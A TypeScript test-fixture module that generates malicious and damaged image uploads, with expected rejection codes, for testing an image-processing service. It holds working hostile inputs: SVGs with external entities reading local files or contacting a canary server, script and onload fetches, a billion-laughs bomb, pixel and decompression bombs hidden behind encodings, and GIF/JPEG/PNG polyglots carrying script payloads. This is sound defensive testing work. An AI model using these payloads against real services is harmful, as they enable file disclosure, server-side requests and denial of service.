import sharp from 'sharp';
import { noise } from './badFiles.ts';
import { badHeics } from './heicHostile.ts';
import { blackPng, type GifFrame, pngChunk, pngSignature, writeGif } from './imageChunks.ts';
import { noisyJpeg, quarters } from './images.ts';
import { greyTiff, withTiffTags } from './tiff.ts';

/** A malicious or damaged upload. */
export interface BadImage {
  name: string;
  make: () => Promise<Buffer>;
  /** Whether only the time limit ends it. */
  endless: boolean;
  /** The error codes that describe the fault correctly; empty if the picture must be accepted and shown harmlessly. */
  codes: readonly string[];
}

const refused = (name: string, codes: readonly string[], make: () => Promise<Buffer> | Buffer): BadImage => ({
  name,
  codes,
  endless: false,
  make: async () => make(),
});
const endless = (name: string, make: () => Promise<Buffer> | Buffer): BadImage => ({
  ...refused(name, ['too_complex'], make),
  endless: true,
});
const taken = (name: string, make: () => Promise<Buffer> | Buffer): BadImage => refused(name, [], make);
const text = (content: string) => () => Buffer.from(content);

const still = () => quarters(300, 200);
const half = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length >> 1);

/** A good picture whose middle is replaced by noise. */
function spoilt(bytes: Buffer): Buffer {
  const start = Math.floor(bytes.length * 0.4);
  const rest = Buffer.from(bytes);
  noise(Math.floor(bytes.length * 0.2)).copy(rest, start);
  return rest;
}

const broken = ['truncated', 'damaged'];

async function truncations(): Promise<[string, Buffer][]> {
  const detailed = await noisyJpeg(300, 200);
  const picture = () => sharp(detailed);
  return [
    ['JPEG', detailed],
    ['progressive JPEG', await picture().jpeg({ progressive: true }).toBuffer()],
    ['PNG', await picture().png().toBuffer()],
    ['interlaced PNG', await picture().png({ progressive: true }).toBuffer()],
    ['WebP', await picture().webp().toBuffer()],
    ['lossless WebP', await picture().webp({ lossless: true }).toBuffer()],
    ['GIF', await picture().gif().toBuffer()],
    ['AVIF', await picture().avif({ effort: 0 }).toBuffer()],
    ['TIFF', await picture().tiff({ compression: 'deflate' }).toBuffer()],
  ];
}

function framesGif(count: number, side: number): Buffer {
  const frame = (n: number): GifFrame => ({
    left: 0,
    top: 0,
    width: n === 0 ? side : 1,
    height: n === 0 ? side : 1,
    colour: n % 3,
    delay: 2,
    disposal: 'keep',
  });
  const palette = [
    [255, 0, 0],
    [0, 255, 0],
    [0, 0, 255],
  ] as const;
  return writeGif({
    width: side,
    height: side,
    palette,
    loop: 0,
    frames: Array.from({ length: count }, (_, n) => frame(n)),
  });
}

const svg = (inside: string, head = '', attributes = 'width="200" height="100"') =>
  `<?xml version="1.0"?>\n${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
const box = '<rect width="200" height="100" fill="#336699"/>';

/**
 * SVGs that refer to a file or to the network.
 *
 * @param canary.file absolute path of a local picture that no result may show
 * @param canary.url a server that must not receive requests
 */
export function reachingSvgs(canary: { file: string; url: string }): readonly { name: string; svg: Buffer }[] {
  const { file, url } = canary;
  const image = (href: string) => `${box}<image width="200" height="100" href="${href}" xlink:href="${href}"/>`;
  const entity = (uri: string) => `<!DOCTYPE svg [<!ENTITY canary SYSTEM "${uri}">]>\n`;
  const cases: Record<string, string> = {
    'an external entity of a file': svg(`${box}<text y="50">&canary;</text>`, entity(`file://${file}.txt`)),
    'an external entity of a server': svg(`${box}<text y="50">&canary;</text>`, entity(`${url}/entity`)),
    'a parameter entity of a server': svg(box, `<!DOCTYPE svg [<!ENTITY % canary SYSTEM "${url}/dtd"> %canary;]>\n`),
    'a document type of a server': svg(box, `<!DOCTYPE svg SYSTEM "${url}/svg.dtd">\n`),
    'a picture by file:': svg(image(`file://${file}`)),
    'a picture by path': svg(image(file)),
    'a picture by http:': svg(image(`${url}/picture.png`)),
    'a use of another file': svg(`${box}<use href="file://${file}.svg#x"/><use href="${url}/other.svg#x"/>`),
    'an XInclude': svg(
      `${box}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}.txt" parse="text"/>`,
    ),
    'a style sheet of a server': svg(
      `<style>@import url("${url}/style.css"); rect { fill: url("${url}/fill.svg#x") #336699 }</style>${box}`,
    ),
    'a style sheet by instruction': `<?xml-stylesheet type="text/css" href="${url}/sheet.css"?>${svg(box).replace(/^.*\n/, '')}`,
    'a font of a server': svg(`<style>@font-face { font-family: x; src: url("${url}/x.ttf") }</style>${box}`),
    'a script': svg(`<script>fetch("${url}/script")</script><script href="${url}/script.js"/>${box}`),
    'a script in an attribute': svg(`<rect width="200" height="100" fill="#336699" onload="fetch('${url}/onload')"/>`),
    'HTML inside': svg(
      `${box}<foreignObject width="200" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"/></foreignObject>`,
    ),
    'a filter with a picture': svg(
      `<filter id="f"><feImage href="file://${file}" xlink:href="file://${file}"/></filter><rect width="200" height="100" fill="#336699"/><rect width="200" height="100" filter="url(#f)"/>`,
    ),
  };
  return Object.entries(cases).map(([name, content]) => ({ name, svg: Buffer.from(content) }));
}

/** Nested entities: a few hundred bytes that expand to a gigabyte of text. */
function laughs(): string {
  const letters = 'abcdefghij'.split('');
  const entities = letters
    .map((letter, n) => `<!ENTITY ${letter} "${n === 0 ? 'ha' : `&${letters[n - 1]};`.repeat(10)}">`)
    .join('');
  return svg('<text y="20">&j;</text>', `<!DOCTYPE svg [${entities}]>\n`);
}

/** Nested groups, each used ten times by the next: a billion rectangles. */
function uses(): string {
  const groups = Array.from(
    { length: 9 },
    (_, n) => `<g id="g${n + 1}">${`<use href="#g${n}" x="1"/>`.repeat(10)}</g>`,
  ).join('');
  return svg(`<defs><rect id="g0" width="1" height="1"/>${groups}</defs><use href="#g9"/>`);
}

/** Rules that compare each element with all elements before it: matching takes hours before anything is drawn. */
const siblings = (): string =>
  svg(`<style>${'* ~ * ~ * ~ * ~ * ~ x{fill:red}'.repeat(4_000)}</style>${'<x/>'.repeat(10_000)}`);

/** A long list of nested data: URLs that are not pictures. */
const addresses = (): string => svg(`<image href="${'data:,x'.repeat(1_200_000)}"/>`);

/** A drawing that would keep a renderer busy for minutes. */
const filters = (): string =>
  svg(
    `<filter id="f" x="0" y="0" width="1" height="1"><feTurbulence baseFrequency="0.5" numOctaves="9"/>${'<feGaussianBlur stdDeviation="90"/>'.repeat(1_000)}</filter><rect width="7000" height="7000" filter="url(#f)"/>`,
    '',
    'width="7000" height="7000"',
  );

/** A drawing of 49 megapixels with twenty pictures of that size in memory; at a small size it is harmless. */
export const greedySvg = (): Buffer => {
  const results = Array.from({ length: 20 }, (_, n) => n);
  const floods = results.map((n) => `<feFlood flood-color="#3${n % 10}9" result="r${n}"/>`).join('');
  const merged = results.map((n) => `<feMergeNode in="r${n}"/>`).join('');
  return Buffer.from(
    svg(
      `<filter id="f" x="0" y="0" width="1" height="1">${floods}<feMerge>${merged}</feMerge></filter><rect width="7000" height="7000" filter="url(#f)"/>`,
      '',
      'width="7000" height="7000"',
    ),
  );
};

const escapedXml = (xml: string): string =>
  xml.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** A picture of 256 megapixels inside an SVG, in plain form or hidden. */
function bombsInSvg(): BadImage[] {
  const bytes = blackPng(16_000, 16_000);
  const bomb = bytes.toString('base64');
  const escaped = bytes.toString('hex').replace(/../g, '%$&');
  const image = (href: string) => `${box}<image width="200" height="100" href="${href}"/>`;
  const inner = Buffer.from(svg(image(`data:image/png;base64,${bomb}`))).toString('base64');
  const filter = `<filter id="f"><feImage href='data:image/png;base64,${bomb}'/></filter>`;
  const cases: [string, string][] = [
    ['as it is', svg(image(`data:image/png;base64,${bomb}`))],
    ['escaped', svg(image(`data:image/png,${escaped}`))],
    ['behind character references', svg(image(`&#100;&#x61;ta:image/png;base64,${bomb}`))],
    ['behind an entity', svg(image(`&d;ta:image/png;base64,${bomb}`), '<!DOCTYPE svg [<!ENTITY d "da">]>\n')],
    ['in a filter', svg(`${filter}<rect width="9" height="9" filter="url(#f)"/>`)],
    ['in an SVG in it', svg(image(`data:image/svg+xml;base64,${inner}`))],
    [
      'behind references by name',
      svg(image(`data:image/svg+xml,${escapedXml(svg(image(`data:image/png;base64,${bomb}`)))}`)),
    ],
    ['behind many parameters', svg(image(`data:image/png;${'a=b;'.repeat(100)}base64,${bomb}`))],
  ];
  return cases.map(([how, content]) =>
    refused(`an SVG with a picture of 256 megapixels, ${how}`, ['too_many_pixels', 'too_complex'], text(content)),
  );
}

/** Files that are not pictures, broken, or malicious to decoders. */
export async function badImages(): Promise<readonly BadImage[]> {
  const cut = (await truncations()).flatMap(([name, bytes]) => [
    refused(`half of a ${name}`, broken, () => half(bytes)),
    ...(name.includes('JPEG') || name.includes('PNG')
      ? [refused(`a damaged ${name}`, broken, () => spoilt(bytes))]
      : []),
  ]);
  const notMedia = ['not_media'];
  return [
    ...cut,
    refused('an empty file', ['empty_file'], text('')),
    refused('text named .png', notMedia, text('It was the best of times. '.repeat(200))),
    refused('noise', notMedia, () => noise(100_000)),
    refused(
      'a web page',
      [...notMedia, 'damaged'],
      text('<!doctype html><html><body><svg></svg><p>hello</body></html>'),
    ),
    refused('a PDF', notMedia, text('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF')),
    refused('a compressed SVG', notMedia, async () => (await import('node:zlib')).gzipSync(Buffer.from(svg(box)))),
    ...badHeics.map(({ name, codes, make }) => refused(name, codes, make)),
    refused('a PNG that ends after its header', broken, () => blackPng(300, 200).subarray(0, 33)),
    refused('a PNG of 30000 × 30000', ['too_many_pixels'], () => blackPng(30_000, 30_000)),
    refused('an interlaced PNG of 256 megapixels', ['too_many_pixels'], () =>
      blackPng(16_000, 16_000, { interlaced: true }),
    ),
    refused('a PNG whose header claims 2³¹ - 1', ['too_many_pixels', ...broken], () => {
      const header = Buffer.from([0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 8, 2, 0, 0, 0]);
      return Buffer.concat([pngSignature, pngChunk('IHDR', header), pngChunk('IDAT', noise(100))]);
    }),
    refused('a GIF of 10000 frames', ['too_complex'], () => framesGif(10_000, 10)),
    refused('a GIF of 1000 frames of 400 × 400', ['too_many_pixels'], () => framesGif(1_000, 400)),
    refused('an SVG of 10⁹ × 10⁹', ['too_many_pixels'], text(svg(box, '', 'width="1000000000" height="1000000000"'))),
    refused('an SVG of 40000 × 40000', ['too_many_pixels'], text(svg(box, '', 'width="40000" height="40000"'))),
    refused('an SVG of 11 MB', ['too_complex'], () => Buffer.from(svg(`${box}<!--${'x'.repeat(11_000_000)}-->`))),
    refused('an SVG of 900000 elements', ['too_complex'], text(svg('<g/>'.repeat(900_000)))),
    refused('an SVG of a billion laughs', [...broken, 'too_complex'], text(laughs())),
    ...bombsInSvg(),
    refused('an SVG with a compressed SVG in it', ['too_complex'], async () => {
      const { gzipSync } = await import('node:zlib');
      const inner = gzipSync(Buffer.from(svg(`<!--${' '.repeat(50_000_000)}-->`))).toString('base64');
      return Buffer.from(svg(`<image width="9" height="9" href="data:image/svg+xml;base64,${inner}"/>`));
    }),
    refused('ten million bytes of unclosed tags', [...broken, ...notMedia], text('<svg'.repeat(2_490_000))),
    { ...endless('an SVG of a billion rectangles', text(uses())), codes: [...broken, 'too_complex'] },
    endless('an SVG of a million addresses', text(addresses())),
    endless('an SVG of rules without end', text(siblings())),
    endless('an SVG of filters without end', text(filters())),
    taken('a JPEG of 65500 × 100', () =>
      sharp({ create: { width: 65_500, height: 100, channels: 3, background: '#336699' } })
        .jpeg()
        .toBuffer(),
    ),
    taken('a TIFF with tags that a decoder warns about', async () =>
      withTiffTags(await still().tiff({ compression: 'deflate' }).toBuffer(), [
        [305, 2, 4, 0x41414141],
        [33_550, 12, 3, 8],
        [42_112, 2, 20, 8],
      ]),
    ),
    taken('a TIFF of grey in 4 bits', () => greyTiff(60, 40)),
    taken('an SVG that contains a picture', async () => {
      const inner = (await still().png().toBuffer()).toString('base64');
      return Buffer.from(svg(`<image width="200" height="100" href="data:image/png;base64,${inner}"/>`));
    }),
    taken('a PNG of 49 megapixels', () => blackPng(7_000, 7_000)),
    taken('an interlaced PNG of 49 megapixels', () => blackPng(7_000, 7_000, { interlaced: true })),
    taken('a progressive JPEG of 49 megapixels', () =>
      sharp({ create: { width: 7_000, height: 7_000, channels: 3, background: '#336699' } })
        .jpeg({ progressive: true })
        .toBuffer(),
    ),
    taken('a GIF of 1000 frames', () => framesGif(1_000, 100)),
    taken('a GIF that is a script', () => {
      const gif = framesGif(1, 30);
      return Buffer.concat([gif, Buffer.from('*/=1;fetch("/secret");//')]);
    }),
    taken('a JPEG followed by a ZIP and a page', async () =>
      Buffer.concat([await still().jpeg().toBuffer(), Buffer.from('PK\x03\x04<html><script>alert(1)</script></html>')]),
    ),
    taken('a PNG with a page in its text', async () => {
      const png = await still().png().toBuffer();
      const page = pngChunk('tEXt', Buffer.from('Comment\0<html><script>alert(1)</script></html>'));
      return Buffer.concat([png.subarray(0, 33), page, png.subarray(33)]);
    }),
  ];
}
